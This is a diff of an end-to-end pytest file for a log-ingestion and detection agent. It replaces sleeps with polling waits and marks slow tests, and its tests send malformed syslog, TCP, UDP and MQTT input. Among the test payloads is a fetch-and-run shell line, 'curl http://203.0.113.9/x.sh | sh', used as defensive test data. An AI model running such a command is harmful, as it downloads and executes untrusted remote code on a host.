@@ -4,8 +4,8 @@ from __future__ import annotations
 
 import json
 import socket
-import time
 from collections.abc import Iterator
+from contextlib import suppress
 from pathlib import Path
 from typing import Any
 
@@ -13,11 +13,12 @@ import paho.mqtt.publish
 import pytest
 from paho.mqtt.client import MQTTv5
 
-from tests.broker import Broker, free_port
+from tests.broker import Broker, own_port
 from tests.broker import running as broker_running
 from tests.delivery.kit import block, unblock
-from tests.e2e.agent import Agent, landed, until, vedette
+from tests.e2e.agent import Agent, few, landed, vedette
 from tests.e2e.test_landing import AGENT, Landing, session
+from tests.waits import DEADLINE, until
 from vedette.model.event import MAX_EVENT
 
 pytestmark = pytest.mark.peer
@@ -49,17 +50,13 @@ class Everything:
             f'[broker]\nurl = "{broker.url}"\n[[input]]\nname = "mqtt"\ntype = "mqtt"\ntopics = ["plant/#"]\n'
         )
 
-    def tcp(self, data: bytes) -> bool:
-        """Send it over a connection of its own; True when the agent closed that before we did."""
-        with socket.create_connection(("127.0.0.1", self.agent.port), 10) as connection:
+    def tcp(self, data: bytes, *, closed: bool = False) -> None:
+        """Send it over a connection of its own; ``closed``: which the agent closes, before we do."""
+        with socket.create_connection(("127.0.0.1", self.agent.port), DEADLINE) as connection:
             connection.sendall(data)
-            connection.settimeout(0.5)
-            try:
-                return connection.recv(1) == b""
-            except TimeoutError:
-                return False
-            except ConnectionError:
-                return True
+            if closed:
+                with suppress(ConnectionError):
+                    assert connection.recv(1) == b""
 
     def udp(self, data: bytes) -> None:
         with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
@@ -120,6 +117,7 @@ def _judged(here: Everything, name: str) -> int:
     return int(here.agent.input(name)["judged"])
 
 
+@pytest.mark.long
 @pytest.mark.parametrize("noise", [b"\xff\xfe\x80 caf\xe9 ", b"\x00\x00 nul \x00 "], ids=["invalid UTF-8", "NUL"])
 def test_bytes_that_are_no_text(here: Everything, noise: bytes) -> None:
     """Invalid UTF-8 and NUL bytes are stored byte for byte and judged, over TCP, UDP and from a file; the alert shows
@@ -140,6 +138,7 @@ def test_bytes_that_are_no_text(here: Everything, noise: bytes) -> None:
     assert {alert["rule_title"] for alert in here.alerts(3)} == {TITLE}
 
 
+@pytest.mark.long
 def test_10_mb_without_newline(here: Everything) -> None:
     """A line of 10 MB is cut at 1 MiB, flagged, counted and told with its peer, over TCP and from a file; the line
     after it is whole, and the agent's memory does not grow with the line."""
@@ -166,6 +165,7 @@ def _peak(agent: Agent) -> int:
     return int(status.partition("VmHWM:")[2].split()[0]) * 1024
 
 
+@pytest.mark.long
 def test_malformed_octet_count(here: Everything) -> None:
     """The messages before a count that is none are stored; then the connection is closed, with a line that says who
     sent what; other connections go on."""
@@ -173,7 +173,7 @@ def test_malformed_octet_count(here: Everything) -> None:
     good = b"%d %s" % (len(ATTACK), ATTACK)
     with socket.create_connection(("127.0.0.1", here.agent.port)) as other:
         other.sendall(b"<13>Nov 20 10:00:00 web1 app: first half,")
-        assert here.tcp(good + b"12x " + ATTACK)
+        here.tcp(good + b"12x " + ATTACK, closed=True)
         counts = here.judged("tcp", tcp + 1)
         assert counts["dropped"] == {"framing": 1}
         told = here.agent.said("framing_error")[-1]
@@ -185,6 +185,7 @@ def test_malformed_octet_count(here: Everything) -> None:
     assert here.last("tcp") == b"<13>Nov 20 10:00:00 web1 app: first half, second half"
 
 
+@pytest.mark.long
 def test_mqtt_payload_that_is_not_json(here: Everything) -> None:
     """A payload that is no JSON, is broken JSON or is empty is stored as it is and judged as text."""
     payloads = (b'{"temperature": 20, ', b"\xff\xfe\x00", b"", b"curl http://203.0.113.9/x.sh | sh")
@@ -206,6 +207,7 @@ def test_mqtt_payload_that_is_not_json(here: Everything) -> None:
 # --- at start
 
 
+@pytest.mark.long
 def test_a_key_that_is_unknown(tmp_path: Path) -> None:
     """Configuration with mistakes: exit code 2, every mistake with file, key and what is known; nothing is written."""
     agent = Agent(tmp_path / "a")
@@ -220,6 +222,7 @@ def test_a_key_that_is_unknown(tmp_path: Path) -> None:
     assert not agent.data.exists()
 
 
+@pytest.mark.long
 def test_a_port_in_use(tmp_path: Path) -> None:
     """A port that another program has: exit code 2 and a line with input, address and what to do; once the port is
     free the same data folder goes on."""
@@ -239,7 +242,8 @@ def test_a_port_in_use(tmp_path: Path) -> None:
 def test_a_truncated_frame(tmp_path: Path) -> None:
     """A raw log that ends within a frame: the rest is kept aside, told with file, place and reason, and the agent goes
     on; what was whole is there and judged."""
-    agent = Agent(tmp_path / "a")
+    # Over 3 s: two lives of an agent.
+    agent = Agent(tmp_path / "a", rules=few(tmp_path / "rules"))
     agent.configure(f'[[input]]\nname = "in"\ntype = "syslog"\ntcp = "127.0.0.1:{agent.port}"\n')
     agent.up()
     with socket.create_connection(("127.0.0.1", agent.port)) as connection:
@@ -274,6 +278,7 @@ def test_a_truncated_frame(tmp_path: Path) -> None:
 # --- brokers and landings
 
 
+@pytest.mark.long
 def test_a_broker_that_is_away(tmp_path: Path) -> None:
     """Without a broker at start and later: told once an outage with address and reason; logs are taken and judged, and
     alerts leave when it is back."""
@@ -302,6 +307,7 @@ def test_a_broker_that_is_away(tmp_path: Path) -> None:
         broker.kill()
 
 
+@pytest.mark.long
 def test_payloads_that_the_region_cannot_read(tmp_path: Path) -> None:
     """What is no batch of alerts, or no JSON on a status topic, is kept in the table ``bad`` with topic and reason, and
     told; alerts among it land."""
@@ -330,6 +336,7 @@ def test_payloads_that_the_region_cannot_read(tmp_path: Path) -> None:
     assert "vedette/v1/f1/edge-9/" in landing.text()
 
 
+@pytest.mark.long
 def test_a_landing_that_cannot_be_written(tmp_path: Path) -> None:
     """Region: a landing folder that cannot be written is told once with what to do, nothing is acknowledged and the
     agent keeps its alerts; when it can be written they land, and are receipted."""
@@ -344,7 +351,8 @@ def test_a_landing_that_cannot_be_written(tmp_path: Path) -> None:
             with socket.create_connection(("127.0.0.1", agent.port)) as connection:
                 connection.sendall(ATTACK + b"\n")
             until("the failure to be told", lambda: landing.alive() and "landing_failed" in landing.text())
-            time.sleep(1.5)
+            sent = agent.status()["totals"]["alerts_sent"]
+            until("two more tries", lambda: agent.status()["totals"]["alerts_sent"] >= sent + 2)
             assert landing.text().count("landing_failed") == 1
             assert str(landing.folder) in landing.text()
             assert "make the folder writable" in landing.text()
@@ -357,6 +365,7 @@ def test_a_landing_that_cannot_be_written(tmp_path: Path) -> None:
             landing.kill()
 
 
+@pytest.mark.long
 def test_a_directory_uplink_that_cannot_be_written(tmp_path: Path) -> None:
     """The same for alerts that land on the agent's own host: logs are taken and judged on, alerts wait."""
     agent = Agent(tmp_path / "a")
@@ -378,6 +387,7 @@ def test_a_directory_uplink_that_cannot_be_written(tmp_path: Path) -> None:
     assert len(agent.alerts()) == 3
 
 
+@pytest.mark.long
 def test_a_broken_rule_at_start(tmp_path: Path) -> None:
     """A rule that cannot run is told with file, line and reason, by the agent and by ``check``; the others run."""
     rules = tmp_path / "rules"
@@ -387,7 +397,7 @@ def test_a_broken_rule_at_start(tmp_path: Path) -> None:
         "title: Good\nid: 6a1f0000-0000-4000-8000-000000000001\nlogsource:\n    product: linux\n"
         "detection:\n    keywords:\n        - 'Failed password'\n    condition: keywords\n"
     )
-    agent = Agent(tmp_path / "a", rules=rules, port=free_port())
+    agent = Agent(tmp_path / "a", rules=rules, port=own_port())
     agent.configure(f'[[input]]\nname = "in"\ntype = "syslog"\ntcp = "127.0.0.1:{agent.port}"\n')
     said = vedette("check", "-c", agent.config, code=1)
     assert f"{rules}/bad.yml:" in said.stderr
